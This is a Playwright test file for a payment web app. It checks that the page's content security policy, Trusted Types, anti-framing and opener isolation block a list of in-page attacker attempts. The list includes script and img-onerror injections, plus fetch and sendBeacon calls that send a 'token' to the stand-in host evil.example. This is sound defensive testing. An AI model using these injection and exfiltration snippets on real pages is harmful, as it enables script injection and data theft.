import { expect, test } from "../../fixtures/fixtures.ts";
import { mockedLink } from "../../mockGateway/mockedLink.ts";
import { newPayment } from "../../mockGateway/mockPayment.ts";
import { visitPayment } from "../../screens/screen.ts";

/** Attempts of an attacker inside the page, and the directive that stops each. */
const breaches: readonly {
  readonly what: string;
  readonly directive: string;
  /** Runs in the page. */
  readonly act: () => unknown;
}[] = [
  {
    what: "an inline script",
    directive: "require-trusted-types-for",
    act: () => {
      const script = document.createElement("script");
      script.append("document.title = 'broken'");
      document.head.append(script);
    },
  },
  {
    what: "a script from another origin",
    directive: "require-trusted-types-for",
    act: () => {
      document.createElement("script").src = "https://evil.example/x.js";
    },
  },
  {
    what: "markup made from a string",
    directive: "require-trusted-types-for",
    act: () => {
      document.createElement("div").innerHTML = "<img src=x onerror=\"document.title='broken'\">";
    },
  },
  {
    what: "a Trusted Types policy that allows strings as markup",
    directive: "trusted-types",
    act: () => {
      // This runs in the page, which knows nothing of this file.
      const types: unknown = Reflect.get(globalThis, "trustedTypes");
      if (typeof types !== "object" || types === null) return;
      const make: unknown = Reflect.get(types, "createPolicy");
      if (typeof make === "function") Reflect.apply(make, types, ["own", {}]);
    },
  },
  {
    what: "a string that is run as code",
    directive: "require-trusted-types-for",
    act: () => {
      // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- the test is about this call
      setTimeout("document.title = 'broken'");
    },
  },
  {
    what: "an event handler in an attribute",
    directive: "require-trusted-types-for",
    act: () => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "document.title = 'broken'");
      document.body.append(button);
      button.click();
    },
  },
  {
    what: "a style in an attribute",
    directive: "style-src-attr",
    act: () => {
      document.body.setAttribute("style", "outline: 7px solid red");
    },
  },
  {
    what: "an inline style sheet",
    directive: "style-src-elem",
    act: () => {
      const style = document.createElement("style");
      style.append("body { outline: 7px solid red }");
      document.head.append(style);
    },
  },
  {
    what: "a call to another origin",
    directive: "connect-src",
    act: () => fetch("https://evil.example/?token").catch(() => undefined),
  },
  {
    what: "a beacon",
    directive: "connect-src",
    act: () => navigator.sendBeacon("https://evil.example/", "token"),
  },
  {
    what: "a picture from another origin",
    directive: "img-src",
    act: () => {
      new Image().src = "https://evil.example/pixel.png";
    },
  },
  {
    what: "a frame",
    directive: "frame-src",
    act: () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
  },
  {
    what: "an object",
    directive: "require-trusted-types-for",
    act: () => {
      const object = document.createElement("object");
      object.data = "https://evil.example/x.pdf";
      document.body.append(object);
    },
  },
  {
    what: "another base URL",
    directive: "base-uri",
    act: () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    },
  },
  {
    what: "a worker",
    directive: "require-trusted-types-for",
    act: () => {
      const address = URL.createObjectURL(new Blob(["postMessage(1)"]));
      try {
        // oxlint-disable-next-line no-new
        new Worker(address);
      } catch {
        // Some attempts throw.
      }
    },
  },
  {
    what: "a form for another origin",
    directive: "form-action",
    act: () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    },
  },
];

test("the policy stops foreign code, loads and calls, and each attempt fails its test", async ({
  customer,
  faults,
  page,
  stage,
  webApp,
}) => {
  await visitPayment(stage);
  await expect(customer.button("Continue")).toBeVisible();
  const left: string[] = [];
  page.on("requestfinished", (request) => left.push(request.url()));
  for (const { what, directive, act } of breaches) {
    expect(faults.found, `before ${what}`).toEqual([]);
    await page.evaluate(act).catch(() => undefined);
    const breach = `the page's policy was broken: ${directive} `;
    await expect.poll(() => faults.found.join("\n"), what).toContain(breach);
    const { title, outline } = await page.evaluate(() => ({
      title: document.title,
      outline: getComputedStyle(document.body).outlineWidth,
    }));
    expect(title, what).not.toContain("broken");
    expect(outline, what).not.toBe("7px");
    faults.forgive(/policy|Trusted(HTML|Script|ScriptURL)|evil\.example/i);
  }
  expect(new URL(page.url()).origin).toBe(webApp.origin);
  expect(left.filter((url) => url.includes("evil.example"))).toEqual([]);
});

test("the page may not be framed", async ({ page, webApp }) => {
  await page.goto("https://shop.example/");
  await page.evaluate((address) => {
    const framing = document.createElement("iframe");
    framing.src = address;
    document.body.append(framing);
  }, `${webApp.origin}/status`);
  const framed = () => page.frames()[1];
  await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
  const frame = framed();
  expect(await frame?.evaluate(() => document.querySelector("#root"))).toBeNull();
});

test("an opener sees that the page's window is closed, but cannot read or navigate it", async ({
  context,
  faults,
  gateway,
  page,
  webApp,
}) => {
  gateway.paymentPages(newPayment.offlineJpy().mock);
  await page.goto("https://shop.example/");
  const opened = context.waitForEvent("page");
  await page.evaluate((address) => {
    Reflect.set(globalThis, "opened", open(address));
  }, mockedLink(webApp.origin));
  const payment = await opened;
  await expect(payment.getByRole("heading", { level: 1 })).toBeVisible();
  const look = () =>
    page.evaluate(() => {
      const held: Window = Reflect.get(globalThis, "opened");
      const seen = { closed: held.closed, frames: held.length };
      try {
        return { ...seen, isRead: held.document.title.length >= 0 };
      } catch {
        return { ...seen, isRead: false };
      }
    });
  expect(await look()).toEqual({ closed: false, frames: 0, isRead: false });
  expect(await payment.evaluate(() => opener), "the page has no opener").toBeNull();
  const before = payment.url();
  const leading = page.evaluate(() => {
    const held: Window = Reflect.get(globalThis, "opened");
    held.location.replace("https://shop.example/elsewhere");
  });
  await expect(leading, "the opener cannot navigate the page").rejects.toThrow(
    "does not have permission",
  );
  // Chromium also reports it in the console.
  const refusal = /Unsafe attempt to initiate navigation/;
  await expect.poll(() => faults.found.join("\n")).toMatch(refusal);
  faults.forgive(refusal);
  expect(payment.url()).toBe(before);
  await payment.close();
  await expect.poll(async () => (await look()).closed).toBe(true);
});
